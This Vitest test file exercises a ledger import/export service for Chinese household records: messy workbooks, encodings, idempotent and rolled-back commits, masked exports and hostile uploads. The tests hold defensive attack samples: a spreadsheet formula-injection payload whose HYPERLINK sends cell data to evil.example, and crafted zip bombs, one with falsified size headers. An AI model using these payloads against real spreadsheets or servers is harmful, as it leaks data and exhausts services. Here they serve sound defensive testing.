// Real-file quirks, idempotence, error workbook and export round-trips, hostile files.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { idNumberCheckChar, maskIdNumber } from '@xiezuo/shared/codes/idNumber';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, type TestClient } from '../../testing/app';
import { withTx } from '../ctx';
import { registerLedger } from './registry';
import { importDir } from './store';
import { createExampleTable, exampleLedger } from './testing/exampleLedger';
import { commitAndWait, readSheet, upload, uploadAndCheck, waitFor, xlsx } from './testing/helpers';
import { defineLedger } from './types';

let t: TestApp;
let admin: TestClient;
const KEY = 'example-members';
const rowsOf = () =>
  t.services.database.query<Record<string, unknown>>(
    'select id_number, year, name, income, birth_date::text as birth_date, relation from ledger_example_members order by id',
  );
const audit = (action: string) =>
  t.services.database.query<{ entity_id: string; before: unknown; after: unknown }>(
    `select entity_id, before, after from audit_log where action = $1 and entity = 'example_member' order by id`,
    [action],
  );

// valid ID numbers (GB 11643 check characters)
const A = '441426198001010011';
const B = '441426199002150029';
const C = '441426201003100031';
const X = '11010519491231002X';

const dataDir = mkdtempSync(join(tmpdir(), 'xz-ledgers-'));
beforeAll(async () => {
  t = await createTestApp({ dataDir });
  await createExampleTable(t.services.db);
  registerLedger(t.app, exampleLedger);
  registerLedger(
    t.app,
    defineLedger({
      key: 'example-units',
      title: '组团单位台账',
      titleEn: 'Member units',
      permissions: { import: 'ledgers.import', export: 'ledgers.export' },
      naturalKey: ['creditCode'],
      columns: [
        { key: 'unitName', header: '单位名称', headerEn: 'Unit', type: 'text', required: true },
        { key: 'creditCode', header: '统一社会信用代码', headerEn: 'Credit code', type: 'creditCode', required: true },
        { key: 'bought', header: '采购金额', headerEn: 'Bought', type: 'amount', unit: '万元', required: true },
      ],
      findExisting: async () => new Map(),
      write: async () => {
        throw new Error('not used');
      },
      exportRows: async () => [],
    }),
  );
  admin = await t.userClient('admin', 'admin', { all: true });
});
afterAll(async () => {
  await t.close();
  rmSync(dataDir, { recursive: true, force: true });
});

async function importAndCommit(c: TestClient, name: string, file: Buffer, mode: 'all-or-nothing' | 'valid-rows' = 'all-or-nothing') {
  const { status } = await uploadAndCheck(c, KEY, name, file);
  const committed = await commitAndWait(c, status.id, mode);
  return { dry: status, committed: committed.status };
}

describe('what real files contain', () => {
  it('reads a messy workbook: merged title, blank rows, odd headers, text numbers, all date forms, units, totals', async () => {
    const file = await xlsx(
      [
        ['广东省某镇2025年家庭成员台账'],
        ['填报单位：某村委会', null, null, '填报日期：2025年3月1日'],
        [],
        [' 姓 名 ', '公民身份号码', '年度', '区划代码', '关系', '出生日期', '家庭年收入（万元）'],
        ['李四', `'${A}`, '2025', '441426104000', '户主', 29221, '1.2'],
        ['王五', B.replace('9', '９'), '２０２５', '441426104', '配偶', '1990/2/15', '0.55'],
        ['赵六', C.toLowerCase(), 2025, 441426104000, '子女', '2010年3月10日', { formula: 'G5*2', result: 2.4 }],
        ['钱七', X.toLowerCase(), 2025, '441426104000', '其他', new Date(Date.UTC(1949, 11, 31)), '55万元'],
        [],
        ['合计', null, null, null, null, null, { formula: 'SUM(G5:G8)', result: 59.15 }],
      ],
      (ws) => ws.mergeCells('A1:G1'),
    );
    const { dry } = await importAndCommit(admin, 'messy.xlsx', file);
    expect(dry).toMatchObject({ status: 'ready', rowsRead: 4, valid: 4, rejected: 0, skipped: 1, toInsert: 4 });
    expect(await rowsOf()).toEqual([
      { id_number: A, year: 2025, name: '李四', income: '12000.00', birth_date: '1980-01-01', relation: 'head' },
      { id_number: B, year: 2025, name: '王五', income: '5500.00', birth_date: '1990-02-15', relation: 'spouse' },
      { id_number: C, year: 2025, name: '赵六', income: '24000.00', birth_date: '2010-03-10', relation: 'child' },
      // 55万元 written out wins over the header's 万元
      { id_number: X, year: 2025, name: '钱七', income: '550000.00', birth_date: '1949-12-31', relation: 'other' },
    ]);
  });

  it('finds the ledger on a later sheet: a 填表说明 sheet first, a hidden list sheet, the ledger third', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('填表说明').addRows([['填表说明'], ['1. 身份证号填18位'], ['2. 金额以元为单位']]);
    const lists = wb.addWorksheet('下拉选项', { state: 'hidden' });
    lists.addRows([
      ['姓名', '身份证号', '年度', '行政区划代码'],
      ['隐藏', A, 2040, '441426104000'],
    ]);
    wb.addWorksheet('台账').addRows([['2026年台账'], ['姓名', '身份证号', '年度', '行政区划代码'], ['第三页', B, 2040, '441426104000']]);
    const { status } = await uploadAndCheck(admin, KEY, 'sheets.xlsx', Buffer.from(await wb.xlsx.writeBuffer()));
    expect(status).toMatchObject({ status: 'ready', rowsRead: 1, valid: 1 });
    expect((await commitAndWait(admin, status.id, 'all-or-nothing')).status).toMatchObject({ inserted: 1 });
    expect((await rowsOf()).filter((r) => r.year === 2040).map((r) => r.name)).toEqual(['第三页']); // not the hidden sheet's row
    // a workbook where no sheet fits is refused as before, naming what is missing
    const none = new ExcelJS.Workbook();
    none.addWorksheet('说明').addRows([['说明']]);
    none.addWorksheet('其他').addRows([
      ['会议纪要', '日期'],
      ['联席会议', '2025-03-01'],
    ]);
    const refused = (await uploadAndCheck(admin, KEY, 'none.xlsx', Buffer.from(await none.xlsx.writeBuffer()))).status;
    expect(refused).toMatchObject({ status: 'failed' });
  });

  it('a 小计 row under a merged 区划代码 is still skipped (the code copied down comes first)', async () => {
    const file = await xlsx(
      [
        ['行政区划代码', '姓名', '身份证号', '年度'],
        ['441426104000', '甲乙', A, 2041],
        [null, '丙丁', B, 2041],
        [null, '小计', null, null],
      ],
      (ws) => ws.mergeCells('A2:A4'),
    );
    const { status } = await uploadAndCheck(admin, KEY, 'merged.xlsx', file);
    expect(status).toMatchObject({ status: 'ready', valid: 2, rejected: 0, skipped: 1 });
  });

  it('reads CSV in GBK (what Chinese Excel writes) and UTF-8 with a BOM alike', async () => {
    const csv = `姓名,身份证号,年度,行政区划代码,年收入\r\n孙八,${A},2024,441426104000,"1,234.5元"\r\n`;
    for (const [name, bytes] of [
      ['gbk.csv', iconv.encode(csv, 'gbk')],
      ['utf8.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv)])],
    ] as const) {
      const { status } = await uploadAndCheck(admin, KEY, name, bytes);
      expect(status).toMatchObject({ status: 'ready', valid: 1, rejected: 0 });
      expect(status.toInsert + status.unchanged).toBe(1);
      await commitAndWait(admin, status.id, 'all-or-nothing');
    }
    expect((await rowsOf()).filter((r) => r.year === 2024)).toEqual([
      { id_number: A, year: 2024, name: '孙八', income: '1234.50', birth_date: null, relation: null },
    ]);
  });

  it('reports every problem in cadre words, including a formula without a cached value and duplicates', async () => {
    const file = await xlsx([
      ['姓名', '身份证号', '年度', '行政区划代码', '出生日期', '年收入', '与户主关系'],
      ['甲', '441426199002150028', 2026, '441426104000', '2025-02-30', '12abc', '儿子'],
      [{ formula: 'CONCAT("乙","")' }, A, 2026, '4414', null, null, null],
      ['丙', A, 2026, '441426104000', '2030-01-01', null, null],
      ['丁', A, 2026, '441426104000', null, null, null],
      ['戊', A, 2026, '441426104000', null, null, null],
    ]);
    const { status } = await uploadAndCheck(admin, KEY, 'bad.xlsx', file);
    expect(status.problems.map((p: { message: string }) => p.message)).toEqual([
      '第2行 B列〔身份证号〕：校验位不正确',
      '第2行 E列〔出生日期〕：没有这一天',
      '第2行 F列〔年收入〕：金额格式不正确（例：55万元、1,234.5元）',
      '第2行 G列〔与户主关系〕：「儿子」不是可选的值，应为以下之一：户主、配偶、子女、其他',
      '第3行 A列〔姓名〕：必填，不能为空',
      '第3行 D列〔行政区划代码〕：行政区划代码应为12位数字',
      '第4行 E列〔出生日期〕：出生日期晚于年度',
      '第6行：与第5行重复',
    ]);
    expect(status).toMatchObject({ rowsRead: 5, valid: 1, rejected: 4, problemCount: 8 });
    admin.lang = 'en';
    const en = (await admin.get(`/api/ledgers/imports/${status.id}`)).json();
    expect(en.problems[0].message).toBe('Row 2, column B (身份证号): wrong check digit');
    admin.lang = 'zh-CN';
  });
});

describe('idempotent commits', () => {
  it('re-importing the same file changes nothing; an edited file updates exactly the changed rows, audited', async () => {
    const rows = [
      ['姓名', '身份证号', '年度', '行政区划代码', '年收入'],
      ['周一', A, 2023, '441426104000', '1000'],
      ['吴二', B, 2023, '441426104000', '2000'],
      ['郑三', C, 2023, '441426104000', '3000'],
    ];
    const first = await importAndCommit(admin, 'v1.xlsx', await xlsx(rows));
    expect(first.committed).toMatchObject({ status: 'committed', inserted: 3, updated: 0 });
    expect((await audit('create')).at(-1)).toEqual({
      entity_id: null,
      before: null,
      after: { via: 'ledger-import', count: 3, ids: [`${maskIdNumber(A)}/2023`, `${maskIdNumber(B)}/2023`, `${maskIdNumber(C)}/2023`] },
    });
    expect(JSON.stringify(await audit('create'))).not.toContain(A); // the log holds ID numbers masked only
    const before = await t.services.database.query('select * from ledger_example_members order by id');
    const auditCount = (await t.services.database.query<{ n: number }>('select count(*)::int n from audit_log'))[0].n;

    const again = await importAndCommit(admin, 'v1.xlsx', await xlsx(rows));
    expect(again.dry).toMatchObject({ toInsert: 0, toUpdate: 0, unchanged: 3 });
    expect(again.committed).toMatchObject({ inserted: 0, updated: 0 });
    expect(await t.services.database.query('select * from ledger_example_members order by id')).toEqual(before);
    // only the import's own entry was added
    expect((await t.services.database.query<{ n: number }>('select count(*)::int n from audit_log'))[0].n).toBe(auditCount + 1);

    rows[2][4] = '2500';
    const edited = await importAndCommit(admin, 'v2.xlsx', await xlsx(rows));
    expect(edited.dry).toMatchObject({ toInsert: 0, toUpdate: 1, unchanged: 2 });
    expect(edited.committed).toMatchObject({ inserted: 0, updated: 1 });
    const updates = await audit('update');
    expect(updates.at(-1)).toEqual({ entity_id: `${maskIdNumber(B)}/2023`, before: { income: '2000.00' }, after: { income: '2500.00' } });
  });

  it('free text keeps its full-width brackets: 广东省（XX）公司 round-trips unchanged and re-imports change nothing', async () => {
    const names = ['广东省（XX）公司', '梅州市（蕉岭）协作办　驻村', '蕉岭县（长潭）合作社'];
    // a record entered in the app (not imported) with full-width brackets, as a form stores it
    await t.services.database.query(
      `insert into ledger_example_members (id_number, year, name, division_code) values ($1, 2029, $2, '441426104000')`,
      [C, names[2]],
    );
    const rows = [
      ['姓名', '身份证号', '年度', '行政区划代码'],
      [` ${names[0]} `, A, 2029, '441426104000'],
      [names[1], B, 2029, '441426104000'],
      [names[2], C, 2029, '441426104000'],
    ];
    const first = await importAndCommit(admin, 'brackets.xlsx', await xlsx(rows));
    expect(first.dry).toMatchObject({ valid: 3, toInsert: 2, toUpdate: 0, unchanged: 1 });
    expect(first.committed).toMatchObject({ status: 'committed', inserted: 2, updated: 0 });
    // stored as written (only trimmed): no （） → () and no ideographic space → ' '
    expect((await rowsOf()).filter((r) => r.year === 2029).map((r) => r.name)).toEqual([names[2], names[0], names[1]]);
    const before = await t.services.database.query('select * from ledger_example_members order by id');

    const again = await importAndCommit(admin, 'brackets.xlsx', await xlsx(rows));
    expect(again.dry).toMatchObject({ valid: 3, toInsert: 0, toUpdate: 0, unchanged: 3 });
    expect(again.committed).toMatchObject({ inserted: 0, updated: 0 });
    // the export writes the names as stored (its re-import is covered below)
    const exported = await admin.get(`/api/ledgers/${KEY}/export?year=2029`);
    expect((await readSheet(exported.rawPayload)).slice(3).map((r) => r[0])).toEqual([names[2], names[0], names[1]]);
    expect(await t.services.database.query('select * from ledger_example_members order by id')).toEqual(before);
  });

  it('a record entered between the check and the commit fails the commit cleanly instead of duplicating', async () => {
    const file = await xlsx([
      ['姓名', '身份证号', '年度', '行政区划代码'],
      ['新人', C, 2031, '441426104000'],
      ['另一人', A, 2031, '441426104000'],
    ]);
    const { status } = await uploadAndCheck(admin, KEY, 'race.xlsx', file);
    expect(status).toMatchObject({ toInsert: 2 });
    await t.services.database.query(
      `insert into ledger_example_members (id_number, year, name, division_code) values ($1, 2031, '抢先', '441426104000')`,
      [C],
    );
    const { status: after } = await commitAndWait(admin, status.id, 'all-or-nothing');
    expect(after).toMatchObject({
      status: 'ready',
      error: { code: 'CONFLICT', details: [{ message: '检查之后其中的记录已被他人录入或修改，请重新导入这个文件' }] },
    });
    expect((await rowsOf()).filter((r) => r.year === 2031)).toEqual([
      { id_number: C, year: 2031, name: '抢先', income: null, birth_date: null, relation: null },
    ]);
  });

  it('a failure during commit leaves the database exactly as it was, through write() or the staging table', async () => {
    const failing = defineLedger({
      ...exampleLedger,
      key: 'example-failing',
      staged: undefined,
      async write(tx, changes, ctx) {
        await exampleLedger.write!(tx, changes, ctx);
        throw new Error('disk full');
      },
    });
    // fails on its last statement, after the updates and their audit entries were written
    const failingStaged = defineLedger({
      ...exampleLedger,
      key: 'example-failing-staged',
      staged: (ctx) => ({ ...exampleLedger.staged!(ctx), insertValues: [{ column: 'id', value: sql`1 / 0` }] }),
    });
    registerLedger(t.app, failing);
    registerLedger(t.app, failingStaged);
    for (const key of ['example-failing', 'example-failing-staged']) {
      const before = await t.services.database.query('select * from ledger_example_members order by id');
      // one new row, one changed row
      const file = await xlsx([
        ['姓名', '身份证号', '年度', '行政区划代码', '年收入'],
        ['新人', A, 2030, '441426104000', null],
        ['周一', A, 2023, '441426104000', '999'],
      ]);
      const { status } = await uploadAndCheck(admin, key, 'f.xlsx', file);
      expect(status).toMatchObject({ toInsert: 1, toUpdate: 1 });
      const auditBefore = await t.services.database.query('select id from audit_log order by id');
      const { status: after } = await commitAndWait(admin, status.id, 'all-or-nothing');
      expect(after).toMatchObject({ status: 'ready', error: { code: 'INTERNAL' } });
      expect(await t.services.database.query('select * from ledger_example_members order by id')).toEqual(before);
      expect(await t.services.database.query('select id from audit_log order by id')).toEqual(auditBefore);
    }
    // nothing left in the staging tables either
    expect((await t.services.database.query<{ n: number }>('select count(*)::int n from ledger_import_rows'))[0].n).toBe(0);
    expect((await t.services.database.query<{ n: number }>('select count(*)::int n from ledger_import_audit'))[0].n).toBe(0);
    expect((await t.services.database.query<{ n: number }>('select count(*)::int n from ledger_import_undo'))[0].n).toBe(0);
  });

  it('write() runs with the commit’s transaction in ctx.tx: a service joining it through withTx(ctx, …) writes inside the commit and is rolled back with it', async () => {
    const seen: boolean[] = [];
    const joining = defineLedger({
      ...exampleLedger,
      key: 'example-joining',
      staged: undefined,
      async write(tx, changes, ctx) {
        seen.push(ctx.tx === tx);
        await withTx(ctx, (inner, c) => exampleLedger.write!(inner, changes, c)); // as a module's service would
        throw new Error('disk full');
      },
    });
    registerLedger(t.app, joining);
    const before = await t.services.database.query('select * from ledger_example_members order by id');
    const auditBefore = await t.services.database.query('select id from audit_log order by id');
    const { status } = await uploadAndCheck(
      admin,
      'example-joining',
      'j.xlsx',
      await xlsx([
        ['姓名', '身份证号', '年度', '行政区划代码'],
        ['同事务', B, 2032, '441426104000'],
      ]),
    );
    expect(status).toMatchObject({ toInsert: 1 });
    expect((await commitAndWait(admin, status.id, 'all-or-nothing')).status).toMatchObject({
      status: 'ready',
      error: { code: 'INTERNAL' },
    });
    expect(seen).toEqual([true]);
    expect(await t.services.database.query('select * from ledger_example_members order by id')).toEqual(before);
    expect(await t.services.database.query('select id from audit_log order by id')).toEqual(auditBefore);
  });
});

describe('error workbook and export round-trips', () => {
  it('the rejected rows come back in the user’s own file, bad cells marked and a reason column added, and import once fixed', async () => {
    const file = await xlsx([
      ['姓名', '身份证号', '年度', '行政区划代码'],
      ['好', A, 2022, '441426104000'],
      ['坏', '441426199002150028', 2022, '441426104000'],
    ]);
    const { dry, committed } = await importAndCommit(admin, 'mixed.xlsx', file, 'valid-rows');
    expect(committed).toMatchObject({ inserted: 1 });
    const res = await admin.get(`/api/ledgers/imports/${dry.id}/errors.xlsx`);
    expect(res.statusCode).toBe(200);
    // the same sheet, rows and row numbers as uploaded (not the template layout)
    const sheet = await readSheet(res.rawPayload);
    expect(sheet[0]).toEqual(['姓名', '身份证号', '年度', '行政区划代码', '问题说明']);
    expect(sheet[2].slice(0, 2)).toEqual(['坏', '441426199002150028']);
    expect(String(sheet[2].at(-1))).toBe('第3行 B列〔身份证号〕：校验位不正确');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    expect((wb.worksheets[0].getCell('B3').fill as { fgColor?: { argb?: string } }).fgColor?.argb).toBe('FFFF9C9C');
    expect(String(wb.worksheets[0].getCell('B3').note)).toContain('校验位不正确');
    // fix the ID number in place and import the file again: the good row is unchanged, the fixed one goes in
    const fixed = await xlsx(sheet.map((r, i) => (i === 2 ? [r[0], B, ...r.slice(2)] : r)));
    const again = await importAndCommit(admin, 'fixed.xlsx', fixed);
    expect(again.dry).toMatchObject({ valid: 2, rejected: 0, toInsert: 1, unchanged: 1 });
    expect(again.committed).toMatchObject({ inserted: 1 });
  });

  it('keeps the pending rows on disk encrypted, ID numbers and phone numbers never in plain text', async () => {
    const wrong = '441426199002150028'; // a bad check character: rejected, kept as written for the error workbook
    const file = await xlsx([
      ['姓名', '身份证号', '年度', '行政区划代码', '联系电话'],
      ['好', C, 2021, '441426104000', '13800138000'],
      ['坏', wrong, 2021, '441426104000', '13900139000'],
    ]);
    const { status } = await uploadAndCheck(admin, KEY, 'at-rest.xlsx', file);
    expect(status).toMatchObject({ valid: 1, rejected: 1 });
    const dir = importDir(t.services, status.id);
    for (const [name, secrets] of [
      ['rows.ndjson', [C, '13800138000']],
      ['rejected.ndjson', [wrong, '13900139000']],
    ] as const) {
      const text = readFileSync(join(dir, name), 'utf8');
      for (const secret of secrets) expect(text).not.toContain(secret);
      const lines = text.trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(t.services.cipher.decrypt(lines[0])).toContain(secrets[0]);
    }
    const committed = await commitAndWait(admin, status.id, 'valid-rows');
    expect(committed.status).toMatchObject({ inserted: 1 });
    expect((await rowsOf()).filter((r) => r.id_number === C && r.year === 2021)).toHaveLength(1);
    const sheet = await readSheet((await admin.get(`/api/ledgers/imports/${status.id}/errors.xlsx`)).rawPayload);
    expect(sheet[2].slice(0, 2)).toEqual(['坏', wrong]);
  });

  it('exports masked by default; revealed only with sensitive.reveal, audited; export → import changes nothing', async () => {
    const masked = await admin.get(`/api/ledgers/${KEY}/export?year=2023`);
    expect(masked.statusCode).toBe(200);
    const m = await readSheet(masked.rawPayload);
    expect(m.slice(3).map((r) => r[1])).toEqual(['4414**********0011', '4414**********0029', '4414**********0031']);
    // a revealing export is a POST with the CSRF token: as a link (GET) or without the token it is refused, and nothing is revealed
    const link = await admin.get(`/api/ledgers/${KEY}/export?year=2023&reveal=1`);
    expect(link.statusCode).toBe(400);
    expect(link.json().details).toEqual([{ path: 'querystring.reveal', message: expect.stringContaining('不能通过链接打开') }]);
    const forged = await admin.post(
      `/api/ledgers/${KEY}/export`,
      { filters: { year: '2023' }, reveal: true },
      { 'x-csrf-token': 'forged' },
    );
    expect(forged.statusCode).toBe(403);
    expect(forged.json().code).toBe('CSRF');
    expect(await t.services.database.query(`select 1 from audit_log where action = 'reveal'`)).toEqual([]);
    const revealed = await admin.post(`/api/ledgers/${KEY}/export`, { filters: { year: '2023' }, reveal: true });
    expect(revealed.statusCode).toBe(200);
    const sheet = await readSheet(revealed.rawPayload);
    expect(sheet.slice(3).map((r) => r[1])).toEqual([A, B, C]);
    expect(sheet[4][6]).toBe(2500);
    const reveals = await t.services.database.query<{ after: { filters: unknown } }>(
      `select after from audit_log where action = 'reveal' and entity = 'example_member'`,
    );
    expect(reveals).toEqual([{ after: { ledger: KEY, filters: { year: '2023' }, columns: ['idNumber', 'phone'] } }]);
    const round = await importAndCommit(admin, 'export.xlsx', revealed.rawPayload);
    expect(round.dry).toMatchObject({ rowsRead: 3, valid: 3, unchanged: 3, toUpdate: 0, toInsert: 0 });

    const member = await t.userClient('member', 'team_member', { divisions: ['441426104000'] });
    expect((await member.post(`/api/ledgers/${KEY}/export`, { reveal: true })).statusCode).toBe(403);
    const outsider = await t.userClient('outsider', 'team_leader', { divisions: ['520221000000'] });
    const none = await readSheet((await outsider.get(`/api/ledgers/${KEY}/export`)).rawPayload);
    expect(none.length).toBe(3); // headers only: nothing in scope
  });

  it("exports text a spreadsheet could take for a formula with a leading ' (= + - @ here; tab and CR in ledgerValues.test), and reads it back unchanged", async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&B4,"点此")', '+86 王五', '-李四', '@SUM(A1:A9)', '普通姓名'];
    for (const [i, name] of names.entries()) {
      const first17 = `44142619800101${String(700 + i)}`;
      await t.services.database.query(
        `insert into ledger_example_members (id_number, year, name, division_code) values ($1, 2031, $2, '441426104000')`,
        [first17 + idNumberCheckChar(first17), name],
      );
    }
    const res = await admin.get(`/api/ledgers/${KEY}/export?year=2031`);
    const cellsOut = (await readSheet(res.rawPayload)).slice(3).map((r) => r[1] && r[0]);
    for (const n of names) expect(cellsOut).toContain(n === '普通姓名' ? n : `'${n}`);
    const sheetXml = await (await JSZip.loadAsync(res.rawPayload)).file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toContain('<f>'); // no formula anywhere
    const revealed = await admin.post(`/api/ledgers/${KEY}/export`, { filters: { year: '2031' }, reveal: true });
    const round = await importAndCommit(admin, 'formulas.xlsx', revealed.rawPayload);
    expect(round.dry).toMatchObject({ valid: cellsOut.length, unchanged: cellsOut.length, toUpdate: 0, toInsert: 0 });
  });

  it("an import is its uploader's: others get 404", async () => {
    const { status } = await uploadAndCheck(
      admin,
      KEY,
      'mine.xlsx',
      await xlsx([
        ['姓名', '身份证号', '年度', '行政区划代码'],
        ['某', A, 2021, '441426104000'],
      ]),
    );
    const other = await t.userClient('other', 'hq', { all: true });
    expect((await other.get(`/api/ledgers/imports/${status.id}`)).statusCode).toBe(404);
    expect((await other.post(`/api/ledgers/imports/${status.id}/commit`, { mode: 'valid-rows' })).statusCode).toBe(404);
    const viewer = await t.userClient('viewer', 'viewer', { all: true });
    expect((await upload(viewer, KEY, 'x.xlsx', Buffer.from('x'))).statusCode).toBe(403);
  });
});

describe('large files', () => {
  it('shows progress while a large file is checked, and other requests are served meanwhile', async () => {
    const rows: unknown[][] = [['姓名', '身份证号', '年度', '行政区划代码', '年收入']];
    for (let i = 0; i < 8_000; i++) rows.push([`成员${i}`, A, 1990 + (i % 30), '441426104000', `${i}元`]);
    const res = await upload(admin, KEY, 'large.xlsx', await xlsx(rows));
    const id = res.json().id;
    let midway: { status: string; rowsRead: number } | null = null;
    let servedMidway = false;
    for (let i = 0; i < 2000 && !servedMidway; i++) {
      const s = (await admin.get(`/api/ledgers/imports/${id}`)).json();
      if (s.status !== 'reading') break;
      if (s.rowsRead > 0 && s.rowsRead < 8_000) {
        midway = s;
        expect((await admin.get('/api/auth/me')).statusCode).toBe(200);
        servedMidway = (await admin.get(`/api/ledgers/imports/${id}`)).json().status === 'reading';
      }
      await new Promise((r) => setTimeout(r, 10));
    }
    expect(midway).toMatchObject({ status: 'reading' });
    expect(servedMidway).toBe(true);
    // (id number, year) repeats every 30 rows: 30 distinct rows, the rest duplicates within the file
    const done = await waitFor(admin, id);
    expect(done).toMatchObject({ status: 'ready', rowsRead: 8_000, valid: 30, rejected: 7_970, problemCount: 7_970 });
    expect(done.problems).toHaveLength(500);
  }, 18_000);
});

describe('hostile files change nothing', () => {
  const fileError = async (name: string, bytes: Buffer, key = KEY) => {
    const before = (await rowsOf()).length;
    const { res, status } = await uploadAndCheck(admin, key, name, bytes);
    expect((await rowsOf()).length).toBe(before);
    if (res.statusCode !== 202)
      return res
        .json()
        .details.map((d: { message: string }) => d.message)
        .join(' ');
    expect(status.status).toBe('failed');
    return status.error.details.map((d: { message: string }) => d.message).join(' ');
  };

  it('not a spreadsheet, an old .xls, an empty file', async () => {
    expect(await fileError('photo.xlsx', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'))).toBe('这不是 Excel（.xlsx）或 CSV 文件');
    expect(await fileError('old.xls', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]))).toContain(
      '另存为 .xlsx',
    );
    expect(await fileError('empty.csv', Buffer.alloc(0))).toBe('文件是空的');
    const docx = new JSZip();
    docx.file('word/document.xml', '<w:document/>');
    expect(await fileError('report.xlsx', await docx.generateAsync({ type: 'nodebuffer' }))).toBe('这不是 Excel（.xlsx）或 CSV 文件');
  });

  it('a fault of the server during the check is said as one, never blamed on the file', async () => {
    const faulty = defineLedger({
      ...exampleLedger,
      key: 'example-faulty-check',
      findExisting: async () => {
        throw new Error('connection terminated unexpectedly');
      },
    });
    registerLedger(t.app, faulty);
    const file = await xlsx([
      ['姓名', '身份证号', '年度', '行政区划代码', '年收入'],
      ['新人', A, 2030, '441426104000', null],
    ]);
    const { status } = await uploadAndCheck(admin, faulty.key, 'ok.xlsx', file);
    expect(status).toMatchObject({ status: 'failed', error: { code: 'INTERNAL' } });
    expect(JSON.stringify(status.error)).not.toContain('ledgers.file');
  });

  it('a zip bomb is refused from its central directory, before any parsing', async () => {
    const zip = new JSZip();
    zip.file('xl/workbook.xml', '<workbook/>');
    zip.file('xl/worksheets/sheet1.xml', Buffer.alloc(60 * 1024 * 1024));
    const bomb = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
    expect(bomb.length).toBeLessThan(200 * 1024);
    expect(await fileError('bomb.xlsx', bomb)).toContain('解压后异常巨大');
  });

  it('a zip bomb whose headers lie is stopped by counting the bytes really inflated', async () => {
    const zip = new JSZip();
    zip.file('[Content_Types].xml', '<Types/>');
    zip.file('xl/workbook.xml', '<workbook><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>');
    zip.file('xl/_rels/workbook.xml.rels', '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>');
    const cells = (values: string[]) => `<row>${values.map((v) => `<c t="inlineStr"><is><t>${v}</t></is></c>`).join('')}</row>`;
    const header = cells(['姓名', '身份证号', '年度', '行政区划代码']);
    zip.file(
      'xl/worksheets/sheet1.xml',
      `<worksheet><sheetData>${header}${cells(['某', A, '2020', '441426104000']).repeat(100_000)}</sheetData></worksheet>`,
    );
    const bytes = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    // rewrite the sheet's declared uncompressed size to 1 KB, in the local header and the central directory
    for (let p = bytes.indexOf('xl/worksheets/sheet1.xml'); p >= 0; p = bytes.indexOf('xl/worksheets/sheet1.xml', p + 1)) {
      const central = bytes.readUInt32LE(p - 46) === 0x02014b50;
      bytes.writeUInt32LE(1024, central ? p - 46 + 24 : p - 30 + 22);
    }
    const limits = t.services.config.ledgers;
    const saved = limits.maxUncompressedBytes;
    limits.maxUncompressedBytes = 1024 * 1024;
    try {
      expect(await fileError('liar.xlsx', bytes)).toContain('解压后异常巨大');
    } finally {
      limits.maxUncompressedBytes = saved;
    }
  });

  it('over the size or row limit (configurable)', async () => {
    const limits = t.services.config.ledgers;
    const saved = { ...limits };
    try {
      limits.maxFileBytes = 1024;
      expect(await fileError('big.csv', Buffer.from(`姓名,身份证号\n${'某,1\n'.repeat(600)}`))).toBe('文件超过 1 KB 的上限');
      limits.maxFileBytes = saved.maxFileBytes;
      limits.maxRows = 2;
      const rows = [['姓名', '身份证号', '年度', '行政区划代码'], ...[A, B, C].map((id) => ['某', id, 2020, '441426104000'])];
      expect(await fileError('rows.xlsx', await xlsx(rows))).toBe(
        '文件超过 2 行的上限：读到第 4 行时已停止读取，未写入任何数据。请把文件拆分成每份不超过 2 行，分批导入',
      );
    } finally {
      Object.assign(limits, saved);
    }
  });

  it('a 1,000,000-row file is refused once the limit is passed, without reading the rest', async () => {
    const limits = t.services.config.ledgers;
    const saved = limits.maxRows;
    try {
      limits.maxRows = 10_000;
      const file = Buffer.from(`姓名,身份证号,年度,行政区划代码\n${`某,${A},2025,441426104000\n`.repeat(1_000_000)}`);
      const res = await upload(admin, KEY, 'million.csv', file);
      expect(res.statusCode, res.body).toBe(202);
      const s = await waitFor(admin, res.json().id);
      expect(s.status).toBe('failed');
      expect(s.error.details.map((d: { message: string }) => d.message)).toEqual([
        '文件超过 10,000 行的上限：读到第 10,031 行时已停止读取，未写入任何数据。请把文件拆分成每份不超过 10,000 行，分批导入',
      ]);
      // counted while streaming, before any row is read as data: the count stopped past the limit (and the
      // 30 rows a title and header may take), not at the end of the file
      expect(s.rowsRead).toBe(0);
    } finally {
      limits.maxRows = saved;
    }
  });

  it('an empty sheet, a sheet with headers only, the wrong ledger’s template', async () => {
    expect(await fileError('blank.xlsx', await xlsx([]))).toBe('工作表中没有数据行');
    expect(await fileError('headers.xlsx', await xlsx([['姓名', '身份证号', '年度', '行政区划代码']]))).toBe('工作表中没有数据行');
    const units = (await admin.get('/api/ledgers/example-units/template')).rawPayload;
    expect(await fileError('units.xlsx', units)).toBe(
      '找不到表头：这不像是「家庭成员台账」的表格，请用本台账的模板 这似乎是「组团单位台账」的表格',
    );
    expect(
      await fileError(
        'partial.xlsx',
        await xlsx([
          ['姓名', '身份证号'],
          ['某', A],
        ]),
      ),
    ).toBe('缺少必填列：年度、行政区划代码');
  });
});
